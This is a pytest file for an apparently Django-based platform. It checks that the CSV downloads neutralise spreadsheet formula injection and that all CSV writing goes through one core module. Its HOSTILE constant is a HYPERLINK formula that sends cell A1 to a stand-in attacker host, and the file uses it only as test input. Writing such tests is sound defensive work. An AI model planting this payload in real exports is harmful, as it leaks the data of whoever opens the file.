"""Every CSV the platform writes goes through the one writer (``core.csvfile.csv_text``),
which neutralises values a spreadsheet would run as formulas.

For each CSV download there is a case below: its file has no cell a spreadsheet would run,
and a hostile value put into what it writes comes out neutralised. A new CSV writer that
bypasses ``core.csvfile`` fails ``test_no_csv_writer_outside_core``.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from faxline.accounts.models import User
from faxline.accounts.views import bulk_create
from faxline.core.csvfile import is_formula
from faxline.porting.portal.views import bulk_import

from cast import Cast

PACKAGE = Path(__file__).resolve().parents[2] / "src" / "faxline"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@dataclass(frozen=True)
class Export:
    """One CSV download: its URL, who may fetch it, and the rows it writes (to poison)."""

    name: str
    url: Callable[[Cast], str]
    user: Callable[[Cast], User]
    rows_owner: object
    rows_name: str


EXPORTS = [
    Export(
        "Bulk Create sample",
        lambda cast: reverse("accounts:users_bulk", args=[cast.company.pk]) + "?sample=1",
        lambda cast: cast.company_admin,
        bulk_create,
        "SAMPLE_ROWS",
    ),
    Export(
        "bulk port requests sample",
        lambda cast: reverse("porting:bulk") + "?sample=1",
        lambda cast: cast.company_admin,
        bulk_import,
        "SAMPLE_ROWS",
    ),
]


def download(cast: Cast, export: Export) -> list[list[str]]:
    client = Client()
    client.force_login(export.user(cast))
    response = client.get(export.url(cast))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.django_db
@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: e.name)
def test_no_cell_of_an_export_is_a_formula(cast: Cast, export: Export) -> None:
    rows = download(cast, export)
    assert len(rows) > 1
    assert [cell for row in rows for cell in row if is_formula(cell)] == []


@pytest.mark.django_db
@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: e.name)
def test_a_hostile_value_in_an_export_is_neutralised(
    cast: Cast, export: Export, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = getattr(export.rows_owner, export.rows_name)
    first = rows[0]
    if isinstance(first, dict):  # rows written by column name: poison the first column
        poisoned_first: object = {**first, next(iter(first)): HOSTILE}
    else:
        poisoned_first = [HOSTILE, *first[1:]]
    poisoned = [poisoned_first, *rows[1:]]
    monkeypatch.setattr(export.rows_owner, export.rows_name, poisoned)
    written = download(cast, export)
    assert written[1][0] == "'" + HOSTILE


def test_no_csv_writer_outside_core() -> None:
    """Only ``core/csvfile.py`` makes CSV writers; everything else calls ``csv_text`` or
    ``csv_lines`` from there."""
    writer = re.compile(
        r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b.*\b(writer|DictWriter)\b"
    )
    found = [
        f"{path.relative_to(PACKAGE)}:{number}"
        for path in PACKAGE.rglob("*.py")
        if path != PACKAGE / "core" / "csvfile.py"
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if writer.search(line)
    ]
    assert found == []
